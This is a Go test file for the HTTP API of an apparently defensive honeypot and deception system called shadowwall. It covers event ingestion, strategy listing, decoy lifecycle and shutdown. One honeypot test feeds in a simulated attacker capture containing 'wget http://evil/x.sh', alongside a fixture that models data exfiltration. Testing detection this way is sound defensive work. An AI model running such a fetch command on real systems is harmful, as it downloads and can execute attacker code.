package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/require"

	"shadowwall/pkg/config"
	"shadowwall/pkg/decoy"
	"shadowwall/pkg/engine"
	"shadowwall/pkg/telemetry"
)

type fakeDriver struct {
	mu   sync.Mutex
	next int
}

func (d *fakeDriver) Name() string { return "fake" }

func (d *fakeDriver) Provision(_ context.Context, _ *decoy.Instance) (decoy.Endpoint, string, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.next++
	return decoy.Endpoint{Host: "127.0.0.1", Port: 41000 + d.next}, fmt.Sprintf("ref-%d", d.next), nil
}

func (d *fakeDriver) Stop(_ context.Context, _ string) error { return nil }

func testConfig() *config.Config {
	cfg := config.DefaultConfig()
	cfg.Ingest.Workers = 2
	cfg.Ingest.QueueDepth = 1024
	cfg.Baseline.WarmingAfter = 10
	cfg.Baseline.StableAfter = 30
	cfg.Deception.Exploration = 0
	cfg.Decoy.SweepInterval = 20 * time.Millisecond
	cfg.Feedback.ReconcileInterval = 20 * time.Millisecond
	return cfg
}

func newTestServer(t *testing.T, cfg *config.Config) (*Server, *engine.Engine) {
	t.Helper()
	eng, err := engine.New(cfg, engine.Deps{Driver: &fakeDriver{}, Logger: zerolog.Nop()})
	require.NoError(t, err)
	t.Cleanup(eng.Close)
	return NewServer(cfg, eng, zerolog.Nop()), eng
}

func do(t *testing.T, h http.Handler, method, path string, body []byte) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

func decodeInto(t *testing.T, rec *httptest.ResponseRecorder, v any) {
	t.Helper()
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), v))
}

var eventBase = time.Date(2025, time.March, 10, 10, 0, 0, 0, time.UTC)

func benignEvent(entity string, i int) telemetry.Event {
	return telemetry.Event{
		SchemaVersion: telemetry.SchemaVersion,
		EntityKey:     entity,
		Timestamp:     eventBase.Add(time.Duration(i) * time.Second),
		Attributes: telemetry.Attributes{
			SourceIP:   entity,
			DestIP:     "10.0.0.9",
			DestPort:   443,
			Protocol:   "tcp",
			PacketSize: 400,
			BytesIn:    120,
			BytesOut:   80,
		},
	}
}

func exfilEvent(entity string, i int) telemetry.Event {
	payload := make([]byte, 256)
	for j := range payload {
		payload[j] = byte(j)
	}
	return telemetry.Event{
		SchemaVersion: telemetry.SchemaVersion,
		EntityKey:     entity,
		Timestamp:     eventBase.Add(time.Duration(i) * time.Second),
		Attributes: telemetry.Attributes{
			SourceIP:   entity,
			DestIP:     "203.0.113.77",
			DestPort:   443,
			Protocol:   "tcp",
			PacketSize: 1800,
			BytesOut:   9_000_000,
			Payload:    string(payload),
		},
	}
}

func waitFor(t *testing.T, timeout time.Duration, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("condition not met before deadline")
}

func TestHealthz(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	rec := do(t, srv.Handler(), http.MethodGet, "/healthz", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	require.Equal(t, "ok", rec.Body.String())
}

func TestMetricsExposed(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	rec := do(t, srv.Handler(), http.MethodGet, "/metrics", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	require.Contains(t, rec.Body.String(), "shadowwall_")
}

func TestIngestValidation(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	h := srv.Handler()

	rec := do(t, h, http.MethodPost, "/api/v1/ingest", []byte("{not json"))
	require.Equal(t, http.StatusBadRequest, rec.Code)

	bad := benignEvent("10.0.0.5", 0)
	bad.EntityKey = ""
	body, err := json.Marshal(bad)
	require.NoError(t, err)
	rec = do(t, h, http.MethodPost, "/api/v1/ingest", body)
	require.Equal(t, http.StatusBadRequest, rec.Code)

	body, err = json.Marshal(benignEvent("10.0.0.5", 0))
	require.NoError(t, err)
	rec = do(t, h, http.MethodPost, "/api/v1/ingest", body)
	require.Equal(t, http.StatusAccepted, rec.Code)
	var resp ingestResponse
	decodeInto(t, rec, &resp)
	require.Equal(t, ingestResponse{Accepted: 1}, resp)
}

func TestAssessmentsQueryValidation(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	h := srv.Handler()

	require.Equal(t, http.StatusBadRequest,
		do(t, h, http.MethodGet, "/api/v1/assessments?min_score=2", nil).Code)
	require.Equal(t, http.StatusBadRequest,
		do(t, h, http.MethodGet, "/api/v1/assessments?limit=-1", nil).Code)

	rec := do(t, h, http.MethodGet, "/api/v1/assessments?entity=10.0.0.5&min_score=0.5&limit=10", nil)
	require.Equal(t, http.StatusOK, rec.Code)
}

func TestStrategiesCatalog(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	rec := do(t, srv.Handler(), http.MethodGet, "/api/v1/strategies", nil)
	require.Equal(t, http.StatusOK, rec.Code)

	var out []engine.StrategyStatus
	decodeInto(t, rec, &out)
	require.Len(t, out, 5)
	require.Equal(t, "data_breadcrumbs", out[0].Name)
	require.InDelta(t, 0.90, out[0].CurrentWeight, 1e-9)
	require.Zero(t, out[0].Active)
}

func TestUnknownLookupsReturn404(t *testing.T) {
	srv, _ := newTestServer(t, testConfig())
	h := srv.Handler()

	require.Equal(t, http.StatusNotFound,
		do(t, h, http.MethodGet, "/api/v1/honeypots/nope", nil).Code)
	require.Equal(t, http.StatusNotFound,
		do(t, h, http.MethodPost, "/api/v1/honeypots/nope/retire", nil).Code)
	require.Equal(t, http.StatusNotFound,
		do(t, h, http.MethodGet, "/api/v1/entities/10.9.9.9", nil).Code)
	require.Equal(t, http.StatusNotFound,
		do(t, h, http.MethodPost, "/api/v1/honeypots/nope/interactions",
			[]byte(`{"source_ip":"203.0.113.9"}`)).Code)
}

func TestHoneypotLifecycleOverHTTP(t *testing.T) {
	cfg := testConfig()
	srv, eng := newTestServer(t, cfg)
	h := srv.Handler()

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		eng.Run(ctx)
		close(done)
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})

	const entity = "10.0.0.5"
	batch := make([]telemetry.Event, 0, 51)
	for i := 0; i < 50; i++ {
		batch = append(batch, benignEvent(entity, i))
	}
	batch = append(batch, exfilEvent(entity, 50))
	body, err := json.Marshal(batch)
	require.NoError(t, err)

	rec := do(t, h, http.MethodPost, "/api/v1/ingest", body)
	require.Equal(t, http.StatusAccepted, rec.Code)
	var ingested ingestResponse
	decodeInto(t, rec, &ingested)
	require.Equal(t, 51, ingested.Accepted)

	var pots []decoy.Instance
	waitFor(t, 5*time.Second, func() bool {
		rec := do(t, h, http.MethodGet, "/api/v1/honeypots", nil)
		if rec.Code != http.StatusOK {
			return false
		}
		pots = pots[:0]
		decodeInto(t, rec, &pots)
		return len(pots) == 1 && pots[0].State == decoy.StateActive
	})
	inst := pots[0]
	require.Equal(t, entity, inst.EntityKey)

	rec = do(t, h, http.MethodGet, "/api/v1/honeypots/"+inst.ID, nil)
	require.Equal(t, http.StatusOK, rec.Code)

	rec = do(t, h, http.MethodGet, "/api/v1/entities/"+entity, nil)
	require.Equal(t, http.StatusOK, rec.Code)
	require.Contains(t, rec.Body.String(), "stable")

	capture, err := json.Marshal(captureRequest{
		SourceIP: "203.0.113.9",
		Commands: []string{"whoami", "wget http://evil/x.sh"},
		Payload:  "GET /admin",
	})
	require.NoError(t, err)
	rec = do(t, h, http.MethodPost, "/api/v1/honeypots/"+inst.ID+"/interactions", capture)
	require.Equal(t, http.StatusCreated, rec.Code)
	var ix decoy.Interaction
	decodeInto(t, rec, &ix)
	require.Equal(t, inst.ID, ix.InstanceID)
	require.NotEmpty(t, ix.Techniques)

	rec = do(t, h, http.MethodGet, "/api/v1/interactions?limit=10", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var captures []decoy.Interaction
	decodeInto(t, rec, &captures)
	require.Len(t, captures, 1)

	waitFor(t, 5*time.Second, func() bool {
		rec := do(t, h, http.MethodGet, "/api/v1/effectiveness?limit=5", nil)
		if rec.Code != http.StatusOK {
			return false
		}
		var recs []json.RawMessage
		decodeInto(t, rec, &recs)
		return len(recs) >= 1
	})

	rec = do(t, h, http.MethodGet, "/api/v1/stats", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var stats statsResponse
	decodeInto(t, rec, &stats)
	require.EqualValues(t, 1, stats.Engine.Deployed)
	require.EqualValues(t, 51, stats.Engine.Processed)

	rec = do(t, h, http.MethodPost, "/api/v1/honeypots/"+inst.ID+"/retire",
		[]byte(`{"reason":"test teardown"}`))
	require.Equal(t, http.StatusOK, rec.Code)

	// retiring an already retired instance is a no-op, not an error
	rec = do(t, h, http.MethodPost, "/api/v1/honeypots/"+inst.ID+"/retire", nil)
	require.Equal(t, http.StatusOK, rec.Code)

	rec = do(t, h, http.MethodGet, "/api/v1/honeypots/"+inst.ID, nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var after decoy.Instance
	decodeInto(t, rec, &after)
	require.Equal(t, decoy.StateRetired, after.State)

	rec = do(t, h, http.MethodPost, "/api/v1/honeypots/"+inst.ID+"/interactions", capture)
	require.Equal(t, http.StatusNotFound, rec.Code)
}

func TestServerStartAndShutdown(t *testing.T) {
	cfg := testConfig()
	cfg.API.Addr = "127.0.0.1:0"
	srv, _ := newTestServer(t, cfg)

	errCh := make(chan error, 1)
	go func() { errCh <- srv.Start() }()

	time.Sleep(50 * time.Millisecond)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	require.NoError(t, srv.Shutdown(ctx))

	select {
	case err := <-errCh:
		require.NoError(t, err)
	case <-time.After(2 * time.Second):
		t.Fatal("Start did not return after Shutdown")
	}
}
